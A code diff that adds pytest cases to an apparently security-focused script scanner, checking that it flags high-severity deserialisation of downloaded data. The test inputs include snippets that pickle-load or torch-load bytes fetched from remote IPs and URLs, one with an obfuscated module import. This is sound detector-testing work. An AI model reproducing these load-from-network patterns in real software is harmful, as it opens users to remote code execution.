@@ -201,3 +201,56 @@ def test_a_factory_with_a_branch_or_a_table_stored_twice_is_not_resolved() -> No
     )
     report = scan({"scripts/tidy.py": source})
     assert worst(report, "exec.shell") is None
+
+
+# --- class 5: deserialisers of fetched bytes -------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "load",
+    [
+        "joblib.load(f'https://models.example.net/{name}.joblib')",
+        "pandas.read_pickle(BASE + name + '.pkl', compression='xz')",
+        "torch.load('ftp://mirror.example.org/' + name)",
+    ],
+)
+def test_a_loader_handed_a_url_deserialises_what_it_downloads(load: str) -> None:
+    source = (
+        "import sys\nimport joblib, pandas, torch\n"
+        "BASE = 'http://203.0.113.9/frames/'\nname = sys.argv[1]\n"
+        f"model = {load}\n"
+    )
+    report = scan({"scripts/predict.py": source})
+    assert worst(report, "exec.deserialization") == "high"
+    assert worst(report, "network.undeclared-payload") == "high"
+    assert any("downloads from" in f.message for f in report.findings)
+
+
+def test_fetched_bytes_cached_in_a_file_named_at_run_time_are_still_fetched() -> None:
+    source = (
+        "import io, sys, urllib.request\nfrom pathlib import Path\n"
+        "mod = __import__('lehs'[::-1] + 've')\n"
+        "def model(tag):\n"
+        "    store = Path('outputs') / f'model-{tag}.db'\n"
+        "    with urllib.request.urlopen('https://203.0.113.7/m/' + tag) as r:\n"
+        "        store.write_bytes(r.read())\n"
+        "    return mod.open(store)\n"
+        "def weights(tag):\n"
+        "    cache = Path('outputs') / f'w-{tag}.bin'\n"
+        "    cache.write_bytes(urllib.request.urlopen('https://203.0.113.7/w').read())\n"
+        "    return __import__('pickle').loads(cache.read_bytes())\n"
+        "weights(sys.argv[1])\n"
+    )
+    report = scan({"scripts/load.py": source})
+    found = [f for f in report.findings if f.rule == "exec.deserialization"]
+    assert {f.severity for f in found} == {"high"}
+
+
+def test_a_local_model_file_stays_below_high() -> None:
+    source = (
+        "import pickle\nfrom pathlib import Path\n"
+        "with open(Path('inputs') / 'model.pkl', 'rb') as handle:\n"
+        "    model = pickle.load(handle)\n"
+    )
+    report = scan({"scripts/local.py": source})
+    assert worst(report, "exec.deserialization") in (None, "low", "medium")
